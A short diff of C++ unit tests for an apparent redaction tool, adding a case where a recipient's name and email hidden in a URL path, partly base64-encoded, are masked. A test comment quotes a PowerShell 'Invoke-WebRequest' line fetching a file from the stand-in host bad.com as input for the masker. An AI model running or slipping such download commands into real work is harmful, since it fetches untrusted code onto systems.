@@ -181,6 +181,12 @@ TEST_F(FormatsTest, pictures_are_named_and_never_guessed) {
   EXPECT_EQ(done.outcome.unmaskable[0].media_type, "image/png");
 }
 
+TEST_F(FormatsTest, a_recipient_in_the_path_of_a_link_leaves_the_rest_of_it) {
+  const Masking done = mask("r.txt", "http://45.77.12.9/t/a2lyaXNoaW1hLXNlaWtpLmV4YW1wbGU/kim%40kirishima-seiki.example");
+  expect_gone(done, {"kirishima", "a2lyaXNo", "kim%40"});
+  expect_kept(done, {"http://45.77.12.9/t/["});
+}
+
 TEST_F(FormatsTest, a_script_in_base64_is_shown_without_the_name) {
   // "Invoke-WebRequest http://bad.com/x -OutFile a; # target Kirishima Seiki headquarters"
   const Masking done = mask(
